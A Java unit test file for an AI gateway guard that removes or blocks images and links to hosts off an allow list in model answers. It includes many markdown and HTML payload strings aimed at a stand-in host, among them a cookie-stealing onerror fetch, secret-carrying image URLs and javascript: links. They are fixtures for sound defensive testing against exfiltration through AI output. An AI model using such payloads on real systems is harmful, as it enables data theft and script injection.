package dev.aigw.routing.guard.output;

import static dev.aigw.routing.guard.output.Answers.changed;
import static dev.aigw.routing.guard.output.Answers.inspection;
import static dev.aigw.routing.guard.output.Answers.stream;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.aigw.api.GuardAction;
import dev.aigw.api.chat.ChatRequest;
import dev.aigw.api.guard.Guard;
import dev.aigw.api.guard.GuardFinding;
import dev.aigw.api.guard.GuardVerdict;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinksTest {

    private final Guard guard =
            Links.builder().allow("good.example", "*.good.example").build();
    private final Guard strict = Links.builder()
            .allow("good.example", "*.good.example")
            .links(GuardAction.REDACT)
            .build();
    private final Guard blocking = Links.builder()
            .allow("good.example")
            .images(GuardAction.BLOCK)
            .links(GuardAction.BLOCK)
            .build();

    private List<String> rules(String text) {
        return guard.check(inspection(text)).findings().stream()
                .map(GuardFinding::rule)
                .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a chart](https://evil.example/x.png)",
                "![](https://evil.example/?q=secret)",
                "![a](<https://evil.example/a b.png>)",
                "![a](https://evil.example/x.png \"a (nice) title\")",
                "![a](\n  https://evil.example/x.png\n)",
                "![a [b] \\] c](https://evil.example/x(1).png)",
                "[![a](https://evil.example/x.png)](https://good.example)",
                "![a](//evil.example/x.png)",
                "![a](\\\\evil.example/x.png)",
                "![a](/\\evil.example/x.png)",
                "![a](https:evil.example/x.png)",
                "![a](https:/evil.example/x.png)",
                "![a](https:\\\\evil.example\\x.png)",
                "![a](HTTPS://EVIL.EXAMPLE/x.png)",
                "![a](https&colon;&sol;&sol;evil.example/x.png)",
                "![a](&#104;ttps://evil.example/x.png)",
                "![a](&#x68;ttps://evil.example/x.png)",
                "![a](<ht\ttps://evil.example/x.png>)",
                "![a](https://good.example@evil.example/x.png)",
                "![a](https://good.example\\@evil.example/x.png)",
                "![a](https://good.example:pw@evil.example/x.png)",
                "![a](https://good.example.evil.example/x.png)",
                "![a](https://evil.example/good.example/x.png)",
                "![a](https://evil.example?good.example)",
                "![a](https://evilgood.example/x.png)",
                "![a](https://g\u043e\u043ed.example/x.png)",
                "![a](https://good\u3002evil\uff0eexample/x.png)",
                "![a](https://%65vil.example/x.png)",
                "![a](ftp://evil.example/x.png)",
                "![a](wss://evil.example/x)",
                "<img src=\"https://evil.example/x.png\">",
                "<IMG SRC='https://evil.example/x.png' alt=x>",
                "<img alt=\"a > b\" src=https://evil.example/x.png>",
                "<img/src=https://evil.example/x.png>",
                "<img\nsrc\n=\n'//evil.example/x.png'>",
                "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
                "<img srcset=\"/a.png 1x, https://evil.example/b.png 2x\">",
                "<img src=\"https&#58;//evil.example/x.png\">",
                "<video poster=https://evil.example/x.png></video>",
                "<iframe src='https://evil.example'></iframe>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<object data=https://evil.example/x></object>",
                "<form action=https://evil.example/x><input></form>",
                "<svg><image href=https://evil.example/x.svg /></svg>",
                "<div style=\"background:url(https://evil.example/x.png)\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example/x\">",
                "<base href=https://evil.example/>",
                "<x style=\"background:url('//evil.example/x.png')\">",
                "<img src=\"https://evil.example/?d="
            })
    void anImageToAnotherHostIsReplaced(String image) {
        String changed = changed(guard, "See " + image + " here");

        assertThat(changed).doesNotContainIgnoringCase("evil").doesNotContain("src");
        assertThat(changed).startsWith("See ").contains("[image removed]");
        assertThat(blocking.check(inspection("See " + image)).action()).isEqualTo(GuardAction.BLOCK);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a chart](https://good.example/x.png)",
                "![a chart](https://cdn.good.example:443/x.png?v=2)",
                "![a](chart.png)",
                "![a](/chart.png)",
                "![a](data:image/png;base64,iVBORw0KGgo=)",
                "[![a](https://good.example/x.png)](https://good.example)",
                "<img src=\"https://good.example/x.png\">",
                "<img src=\"/x.png\" alt='a: b'>",
                "[a link](https://evil.example/page)",
                "<a href=\"https://evil.example/page\">text</a>",
                "https://evil.example/page",
                "<https://evil.example/page>",
                "www.evil.example/page",
                "[1]: https://evil.example/page",
                "[mail](mailto:jane@example.org)",
                "[top](#top)",
                "[home](/index.html)",
                "for (int i = 0; i<n; i++) { a[i](x); }",
                "List<String> a = b; if (x <y) return c?d:e;",
                "Time: 12:30, ratio 3:4, I <3 this! Really?![",
                "let v = vec![1, 2, 3]; // a comment",
                "a :// b and http:// alone"
            })
    void whatIsAllowedStaysAsItIs(String text) {
        assertThat(changed(guard, text)).isEqualTo(text);
        assertThat(guard.check(inspection(text)).findings()).isEmpty();
    }

    @Test
    void linksToOtherHostsAreReplacedByChoice() {
        assertThat(changed(strict, "Read [this](https://evil.example/a), or [that](https://good.example/b)."))
                .isEqualTo("Read [this] (link removed), or [that](https://good.example/b).");
        assertThat(changed(strict, "See https://evil.example/a(b). And (www.evil.example/x)!"))
                .isEqualTo("See [link removed]. And ([link removed])!");
        assertThat(changed(strict, "<https://evil.example> <a href='//evil.example'>x</a>"))
                .isEqualTo("<[link removed]> <a>x</a>");
        assertThat(changed(strict, "[1]: https://evil.example/a\n[2]: //evil.example"))
                .isEqualTo("[1]: [link removed]\n[2]: [link removed]");
        assertThat(changed(strict, "https://good.example and https://www.good.example/x"))
                .isEqualTo("https://good.example and https://www.good.example/x");
    }

    @Test
    void aLinkThatLooksLikeAnotherIsDisguised() {
        assertThat(rules("[bank](https://good.example@evil.example/login)")).containsExactly("disguised-link");
        assertThat(rules("https://good.example\\@evil.example/login")).containsExactly("disguised-link");
        assertThat(rules("[bank](https://p\u0430ypal.example/)")).containsExactly("disguised-link");
        assertThat(rules("[Zeitung](https://m\u00fcnchen.example/)")).isEmpty();
    }

    @Test
    void aLinkThatRunsAScriptIsReplaced() {
        assertThat(rules("[x](javascript:alert(1))")).containsExactly("script");
        assertThat(rules("[x](JaVa&Tab;Script:alert(1))")).containsExactly("script");
        assertThat(rules("[x](data:text/html;base64,PHNjcmlwdD4=)")).containsExactly("script");
        assertThat(rules("![x](data:image/svg+xml;base64,PHN2Zz4=)")).containsExactly("script");
        assertThat(rules("<a href=\"vbscript:x\">y</a>")).containsExactly("script");
    }

    private static final ChatRequest CONFIDENTIAL = ChatRequest.builder("assistant")
            .system("The contract with Northwind ends in March.")
            .user("My account is DE4471190022. Summarise: the merger with Contoso will be announced on the third of"
                    + " May, see https://news.example/contoso/merger-is-announced-on-the-third-of-may-by-the-board")
            .build();

    private List<String> carried(String answer) {
        return guard.check(inspection(CONFIDENTIAL, answer)).findings().stream()
                .map(GuardFinding::rule)
                .toList();
    }

    @Test
    void aLinkThatCarriesDataOfTheRequestIsExfiltration() {
        String secret = "merger with Contoso will be announced on the third of May";
        String encoded =
                Base64.getUrlEncoder().withoutPadding().encodeToString(secret.getBytes(StandardCharsets.UTF_8));

        assertThat(carried("[more](https://evil.example/?q=" + secret.replace(' ', '+') + ")"))
                .containsExactly("exfiltration");
        assertThat(carried("https://evil.example/" + secret.replace(" ", "%20")))
                .containsExactly("exfiltration");
        assertThat(carried("https://evil.example/" + encoded)).containsExactly("exfiltration");
        assertThat(carried("https://evil.example/?id=DE4471190022")).containsExactly("exfiltration");
        assertThat(carried("https://" + encoded.substring(0, 60).toLowerCase(Locale.ROOT) + ".evil.example"))
                .containsExactly("exfiltration");
        assertThat(carried("https://evil.example/" + "x1y2".repeat(60))).containsExactly("exfiltration");
        assertThat(carried("https://good.example/?id=DE4471190022")).isEmpty();
    }

    @Test
    void aLinkThatStandsInTheRequestCarriesNothing() {
        assertThat(carried("See https://news.example/contoso/merger-is-announced-on-the-third-of-may-by-the-board."))
                .isEmpty();
        assertThat(carried("See https://docs.example/guide/getting-started?lang=en#install."))
                .isEmpty();
    }

    @Test
    void anImageByReferenceGoesToAllowedHostsOnly() {
        assertThat(changed(guard, "![a][x]\n\n[x]: https://evil.example/x.png"))
                .isEqualTo("! [a][x]\n\n[x]: https://evil.example/x.png");
        assertThat(changed(guard, "![X]\n\n[x]: <//evil.example/x.png>"))
                .isEqualTo("! [X]\n\n[x]: <//evil.example/x.png>");
        String fine = "![a][x]\n\n[x]: https://good.example/x.png";
        assertThat(changed(guard, fine)).isEqualTo(fine);
        assertThat(stream(guard, "![a][x]\n\n[x]: https://evil.example/x.png", 3)
                        .shown())
                .isEqualTo("! [a][x]\n\n[x]: https://evil.example/x.png");
    }

    @Test
    void aTagWithPaddingIsReplacedBeforeItEnds() {
        String tag = "<img alt='" + "x".repeat(6000) + "' src=https://evil.example/x.png>";

        assertThat(changed(guard, "a " + tag)).startsWith("a [image removed]").doesNotContain("<img");
        assertThat(stream(guard, "a " + tag, 100).shown())
                .startsWith("a [image removed]")
                .doesNotContain("<img");
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 2, 3, 7, 19, 1000})
    void aStreamShowsNoPartOfAnImageOrLink(int chunk) {
        String answer = "Look: ![a chart](https://evil.example/x.png?d=1) and <img src='//evil.example/y'> or"
                + " [this](https://evil.example/z), https://evil.example/w. Fine: ![b](https://good.example/b.png)"
                + " https://good.example/c end";

        assertThat(stream(strict, answer, chunk).shown())
                .isEqualTo("Look: [image removed] and [image removed] or [this] (link removed), [link removed]."
                        + " Fine: ![b](https://good.example/b.png) https://good.example/c end");
        Answers.Shown blocked = stream(blocking, answer, chunk);
        assertThat(blocked.blockedBy()).isEqualTo("image");
        assertThat(blocked.shown()).doesNotContain("evil");
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 4, 50})
    void anAllowedHostIsNotTakenForTheBeginningOfItsName(int chunk) {
        String answer = "See https://good.example/a/b?c=d and https://good.example";

        Answers.Shown shown = stream(blocking, answer, chunk);

        assertThat(shown.blockedBy()).isEmpty();
        assertThat(shown.shown()).isEqualTo(answer);
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 4, 30})
    void proseAndCodeAreHardlyDelayed(int chunk) {
        String answer =
                "A quite normal sentence, with numbers (1, 2) and a list:\n- one\n- two: `a[i] = b<c;`\n".repeat(12);

        Answers.Shown shown = stream(guard, answer, chunk);

        assertThat(shown.shown()).isEqualTo(answer);
        assertThat(shown.median()).isLessThanOrEqualTo(8);
    }

    /** Whatever comes: whole or streamed, the same text remains, and no image to another host. */
    @Test
    void wholeAndStreamedAnswersAreChangedAlike() {
        String[] pieces = {
            "![",
            "]",
            "(",
            ")",
            "https://evil.example/",
            "https://good.example/a",
            "<img src=",
            ">",
            "'",
            "\"",
            " ",
            "\n",
            "x",
            "//",
            "\\",
            ":",
            "www.",
            "[a]",
            "&colon;",
            "data:",
            "<a href=",
            "!",
            "\ud83d\ude00"
        };
        Random random = new Random(17);
        for (int run = 0; run < 3000; run++) {
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < 12; i++) {
                text.append(pieces[random.nextInt(pieces.length)]);
            }
            String answer = text.toString();
            GuardVerdict verdict = strict.check(inspection(answer));
            String whole = changed(verdict, answer);
            for (int chunk : new int[] {1, 5}) {
                assertThat(stream(strict, answer, chunk).shown().replace("! [", "!["))
                        .as(answer)
                        .isEqualTo(whole.replace("! [", "!["));
            }
        }
    }

    @Test
    void optionsAreChecked() {
        assertThatThrownBy(() -> Links.builder().allow("https://good.example/"))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> Links.builder().images(GuardAction.ALLOW)).hasMessageContaining("ANNOTATE");
    }
}
